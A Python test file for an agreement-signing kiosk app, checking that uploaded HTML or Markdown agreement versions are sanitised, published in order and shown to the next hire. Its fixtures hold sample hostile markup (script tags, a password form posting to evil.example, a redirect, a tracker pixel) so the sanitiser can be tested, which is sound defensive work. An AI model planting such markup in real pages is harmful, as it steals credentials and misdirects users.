"""Agreement versions: publishing a sanitised new version, the kiosk showing it, counts."""

from __future__ import annotations

import io
import sqlite3

import pytest
from pypdf import PdfReader
from support.cli import cli_environment, zzsign_here
from support.store import CLAUSE, SHIPPED, sign_real_records, signed_session

from zzsign.services.agreements import (
    PublicationRefusedError,
    list_versions,
    prepare_publication,
    publish,
)
from zzsign.services.signing import SigningService
from zzsign.services.store import open_store

HOSTILE_HTML = f"""<!doctype html>
<html><head><title>v2</title><script>alert('head')</script>
<link rel="stylesheet" href="http://cdn.example/style.css"></head>
<body>
<h1>Employee Confidentiality Agreement</h1>
<p onclick="steal()">The 2027 edition, with <b>bold</b> and <em>italic</em> words and
<a href="http://intranet.example/policy">the policy page</a>.</p>
<img src="http://tracker.example/pixel.gif" alt="tracker">
<form action="http://evil.example/collect"><input name="password"><button>Send</button></form>
<h2>4. Third Party Information</h2>
<p>{CLAUSE}</p>
<ul><li>Keep secrets secret.</li><li>Report losses &amp; leaks at once.</li></ul>
<script>document.location = 'http://evil.example/'</script>
<p>Odd characters stay text: &lt;script&gt; *not emphasis*.</p>
</body></html>
""".encode()


def test_html_is_sanitised_and_what_was_removed_is_listed():
    sanitised = prepare_publication(HOSTILE_HTML, "agreement-v2.html")
    text = sanitised.markdown_text
    for gone in (
        "<script>d",
        "<script>a",
        "alert(",
        "http://",
        "<img",
        "<form",
        "<input",
        "onclick",
        "steal",
        "tracker",
        "password",
        "Send",
        "stylesheet",
        "document.location",
    ):
        assert gone not in text, gone
    assert text.count("<") == text.count(r"\<") == 1  # only the escaped text, never a tag
    assert text.startswith("# Employee Confidentiality Agreement\n\n")
    assert "**bold** and *italic* words and the policy page." in text
    assert "## 4. Third Party Information" in text
    assert f"\n\n{CLAUSE}\n\n" in text
    assert "- Keep secrets secret.\n- Report losses & leaks at once." in text
    assert r"\<script\> \*not emphasis\*" in text
    problems = " | ".join(sanitised.problems)
    for listed in (
        "<script> ×2",
        "<img>",
        "<form>",
        "<input>",
        "<link>",
        "event attribute",
        "link target (the link text is kept)",
    ):
        assert listed in problems, (listed, sanitised.problems)


def test_markdown_loses_raw_html_images_and_link_targets():
    source = (
        f"# Agreement\n\nRead <b>this</b> <script>alert(1)</script> first, see "
        f"[the policy](http://intranet.example/p) and ![logo](http://cdn.example/l.png)."
        f'\n\n<!-- hidden -->\n<iframe src="http://x"></iframe>\n\n{CLAUSE}\n\n'
        f"See also [the handbook][hb].\n\n[hb]: http://intranet.example/handbook\n"
    )
    sanitised = prepare_publication(source.encode(), "v2.md")
    text = sanitised.markdown_text
    for gone in ("<", "http://", "alert", "logo", "hidden", "[hb]"):
        assert gone not in text, gone
    assert "see the policy and ." in text and "See also the handbook." in text
    assert CLAUSE in text
    assert {"<script>", "<iframe>", "image", "HTML comment", "link definition"} <= {
        p.split(" ×")[0] for p in sanitised.problems
    }


@pytest.mark.parametrize(
    "data, name, says",
    [
        (b"# Agreement\n\nNo clause here.\n", "v2.md", "Third Party Information."),
        (
            b"<p><b>Third Party Information.</b> Bold heading is not the clause.</p>",
            "v2.html",
            "Third Party Information.",
        ),
        ("Third Party Information. caf\u00e9".encode("latin-1"), "v2.md", "not UTF-8"),
        (b"x" * (200 * 1024 + 1), "v2.md", "larger than 200 KB"),
        (b"<script>only()</script>  ", "v2.html", "no agreement text"),
        (b"Third Party Information. I \x1b[31m agree.\n", "v2.md", "control character"),
        (b"Third Party Information. I agree.\n", "v2.docx", "neither Markdown"),
    ],
)
def test_unusable_files_are_refused(data, name, says):
    with pytest.raises(PublicationRefusedError, match=says.replace(".", r"\.")):
        prepare_publication(data, name)


def test_a_version_must_be_newer_than_every_published_one(store):
    sanitised = prepare_publication(HOSTILE_HTML, "v2.html")
    with pytest.raises(PublicationRefusedError, match="not newer than version 1"):
        publish(store.sessions, sanitised, 1)
    publish(store.sessions, sanitised, 3, "Employee Confidentiality Agreement")
    with pytest.raises(PublicationRefusedError, match="not newer than version 3"):
        publish(store.sessions, sanitised, 2)
    with pytest.raises(PublicationRefusedError, match="exactly version 3"):
        publish(store.sessions, sanitised, 4)
    assert [v.version for v in list_versions(store.sessions)] == [1, 3]


def test_a_running_kiosk_takes_up_the_new_version_between_hires(store, service):
    assert service.agreement.version == 1
    published = publish(store.sessions, prepare_publication(HOSTILE_HTML, "v2.html"), 2)
    assert service.start_session().agreement.version == 1  # the hire already under way
    assert service.refresh_agreement() == published
    assert service.start_session().agreement == published


def pdf_text(data: bytes) -> str:
    return " ".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def test_the_kiosk_offers_the_newest_version_and_old_records_keep_theirs(
    qapp, settings, secrets, store, service, hr_key
):
    from zzsign.services.pdf_copy import make_signed_copy, material_from_store
    from zzsign.services.records import open_record

    old = service.sign(signed_session(service, "Ada Lovelace"), screen="1920x1080")
    published = publish(store.sessions, prepare_publication(HOSTILE_HTML, "v2.html"), 2)
    assert published.version == 2 and published.title == SHIPPED.title
    store.close()

    reopened = open_store(settings, secrets)
    try:
        assert reopened.agreement == published
        assert reopened.agreement.third_party_clause == CLAUSE
        new_service = SigningService(reopened)
        session = signed_session(new_service, "Grace Hopper")
        assert session.agreement.version == 2
        receipt = new_service.sign(session, screen="1920x1080")
        assert receipt.appended.public.agreement_version == 2
        assert receipt.appended.public.agreement_sha256 == published.sha256
        assert "The 2027 edition" in pdf_text(new_service.signed_copy(receipt))

        with reopened.sessions() as db:
            old_record = open_record(db, old.record_id, hr_key)
            assert old_record.agreement.version == 1
            assert old_record.agreement.text == SHIPPED.text
            material = material_from_store(
                db, old.record_id, hr_key, reopened.seal, reopened.seal_endorsement
            )
        old_copy = pdf_text(make_signed_copy(material))
        assert "The 2027 edition" not in old_copy and "Version 1" in old_copy
        counts = {v.version: v.signatures for v in list_versions(reopened.sessions)}
        assert counts == {1: 1, 2: 1}
    finally:
        reopened.close()


def test_agreement_list_and_publish_from_the_command_line(tmp_path):
    env = cli_environment(tmp_path / "keyring.json")
    data = tmp_path / "data"
    assert zzsign_here(env, "hr-password", "--data-dir", str(data)).returncode == 0
    sign_real_records(data, tmp_path / "keyring.json", ("Ada Lovelace",))
    listed = zzsign_here(env, "agreement", "list", "--data-dir", str(data))
    assert listed.returncode == 0, listed.stderr
    (row,) = listed.stdout.splitlines()[1:]
    assert row.split()[0] == "1" and SHIPPED.sha256[:16] in row and row.split()[3] == "1"

    source = tmp_path / "agreement-v2.html"
    source.write_bytes(HOSTILE_HTML)
    done = zzsign_here(
        env,
        "agreement",
        "publish",
        str(source),
        "--version",
        "2",
        "--title",
        "Employee Confidentiality Agreement (2027)",
        "--data-dir",
        str(data),
    )
    assert done.returncode == 0, done.stderr
    assert "Removed: <script> ×2" in done.stderr and "Removed: <form>" in done.stderr
    with sqlite3.connect(data / "zzsign.sqlite3") as raw:
        (sha,) = raw.execute(
            "SELECT sha256 FROM documents WHERE kind = 'agreement' AND version = 2"
        ).fetchone()
    assert f"sha256 {sha}" in done.stdout

    again = zzsign_here(
        env, "agreement", "publish", str(source), "--version", "2", "--data-dir", str(data)
    )
    assert again.returncode == 1 and "not newer than version 2" in again.stderr
    clauseless = tmp_path / "no-clause.md"
    clauseless.write_text("# Agreement\n\nNothing about third parties.\n")
    refused = zzsign_here(
        env, "agreement", "publish", str(clauseless), "--version", "3", "--data-dir", str(data)
    )
    assert refused.returncode == 1 and "Third Party Information." in refused.stderr
    missing = zzsign_here(
        env,
        "agreement",
        "publish",
        str(tmp_path / "nope.md"),
        "--version",
        "3",
        "--data-dir",
        str(data),
    )
    assert missing.returncode == 2

    listed = zzsign_here(env, "agreement", "list", "--data-dir", str(data))
    rows = listed.stdout.splitlines()[1:]
    assert [r.split()[0] for r in rows] == ["1", "2"]
    assert rows[1].split()[2] == sha[:16] and rows[1].split()[3] == "0"
    assert "(2027)" in rows[1]


def test_the_next_hire_sees_a_version_published_while_the_kiosk_runs(qtbot, kiosk, store):
    from support.kiosk import Hire, KioskDriver

    driver = KioskDriver(qtbot, kiosk)
    publish(store.sessions, prepare_publication(HOSTILE_HTML, "v2.html"), 2)
    driver.click("Start")
    driver.click("Back")
    kiosk.reset()  # what Finish and the idle timeout do between hires
    driver.enter_details(Hire())
    driver.consent()
    assert "version 2" in kiosk.wizard.agreement.viewer.accessibleName()
